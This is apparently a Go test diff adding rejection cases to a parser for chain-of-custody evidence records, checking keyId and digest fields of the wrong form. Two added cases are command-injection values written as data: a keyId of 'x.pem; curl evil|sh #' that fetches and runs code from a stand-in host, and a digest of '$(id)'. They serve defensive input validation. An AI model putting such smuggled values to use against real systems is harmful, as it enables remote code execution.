@@ -14,6 +14,7 @@ import (
 	"flag"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -323,6 +324,14 @@ func TestParse(t *testing.T) {
 		"another bucket":      edit(`"custody":{"account":"123456789012","bucket":"contoso-evidence"`, `"custody":{"account":"123456789012","bucket":"other"`),
 		"no sequence":         edit(`"sequence":7`, `"sequence":0`),
 		"first with another":  edit(`"sequence":7`, `"sequence":1`),
+		"a key id of another form": regexp.MustCompile(`"keyId":"[0-9a-f]{64}"`).ReplaceAllLiteralString(text,
+			`"keyId":"x.pem; curl evil|sh #"`),
+		"a key id in capitals": regexp.MustCompile(`"keyId":"[0-9a-f]{64}"`).ReplaceAllLiteralString(text,
+			`"keyId":"`+strings.Repeat("A", 64)+`"`),
+		"a digest of another form": regexp.MustCompile(`"previous":"[0-9a-f]{64}"`).ReplaceAllLiteralString(text,
+			`"previous":"$(id)"`),
+		"an object's digest of another form": regexp.MustCompile(`"sha256":"[0-9a-f]{64}"`).
+			ReplaceAllLiteralString(text, `"sha256":"`+strings.Repeat("g", 64)+`"`),
 		"bytes that are none": edit(`"Portal"`, "\"Por\xfftal\""),
 		"half a surrogate":    edit(`"Portal"`, `"\ud800"`),
 	} {
